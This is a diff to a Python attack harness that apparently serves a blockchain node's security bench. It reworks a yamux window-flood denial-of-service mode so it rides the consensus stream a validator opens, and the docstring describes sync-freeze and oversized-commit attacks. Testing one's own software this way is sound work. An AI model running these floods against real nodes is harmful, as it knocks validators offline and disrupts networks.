@@ -5,8 +5,9 @@ tests and the security bench (issue 19's four network attacks, made from outside
 
 Modes:
 
-- ``window``: one valid blocks-by-range request, then yamux DATA on its stream as fast as it can,
-  never waiting for a window update (the muxer-memory attack);
+- ``window``: one valid blocks-by-range request, then yamux DATA as fast as it can, never waiting
+  for a window update (the muxer-memory attack), on the consensus link a validator opens to it
+  (a stream the validator never reads) or, from a node that opens none, on the request's stream;
 - ``claim-head``: ``--peers`` peers that claim head 10^12 and never answer a block request (the
   sync-freeze attack);
 - ``stale-commits``: ``--peers`` peers that open the consensus stream and send 0.9 MB commit frames
@@ -84,8 +85,8 @@ class AttackerChain:
         return Verdict.IGNORE
 
 
-async def start_peer(args: argparse.Namespace, name: str, head: int, answer: bool,
-                     nursery: trio.Nursery) -> tuple[P2PHost, str]:
+async def start_peer(args: argparse.Namespace, name: str, head: int, answer: bool, nursery: trio.Nursery,
+                     protocols: dict[str, Any] | None = None) -> tuple[P2PHost, str]:
     import multiaddr
     from libp2p.peer.peerinfo import info_from_p2p_addr
 
@@ -94,6 +95,8 @@ async def start_peer(args: argparse.Namespace, name: str, head: int, answer: boo
     host = P2PHost(P2PConfig(Path(args.keydir) / f"{name}.key", port=0), AttackerChain(chain_id, genesis_hash, head, answer),
                    chain_id, genesis_hash)
     await nursery.start(host.run)
+    for protocol, serve in (protocols or {}).items():
+        host.add_protocol(protocol, serve)
     info = info_from_p2p_addr(multiaddr.Multiaddr(args.target))
     with trio.fail_after(30):
         await host.host.connect(info)
@@ -112,14 +115,25 @@ async def window(args: argparse.Namespace, nursery: trio.Nursery) -> None:
 
 
 async def window_once(args: argparse.Namespace, nursery: trio.Nursery, attempt: int) -> None:
-    host, target = await start_peer(args, f"window{attempt}", 0, True, nursery)
+    links: list[Any] = []
+    linked = trio.Event()
+
+    async def on_link(peer: str, stream: Any) -> None:
+        # A validator links to every peer that speaks consensus, and never reads from its link.
+        links.append(stream)
+        linked.set()
+        await trio.sleep_forever()
+
+    host, target = await start_peer(args, f"window{attempt}", 0, True, nursery, {CONSENSUS_PROTOCOL: on_link})
     stream = await host.open_stream(target, BLOCKS_PROTOCOL)
     await stream.write(encode_frame(BlocksRequest(1, 1).encode()))
-    muxed = stream.muxed_stream
-    conn, sid = muxed.conn, muxed.stream_id
+    with trio.move_on_after(3):
+        await linked.wait()
+    victim = links[0] if links else stream
+    conn, sid = victim.muxed_stream.conn, victim.muxed_stream.stream_id
     payload = b"\xab" * (64 * 1024 - 12)
     frame = struct.pack("!BBHII", 0, 0, 0, sid, len(payload)) + payload
-    print("ATTACK window started", flush=True)
+    print(f"ATTACK window started on the {'consensus link' if links else 'blocks request'} stream", flush=True)
     sent = 0
     try:
         # py-libp2p's writes do not fail once the other side has closed: stop on its GO_AWAY.
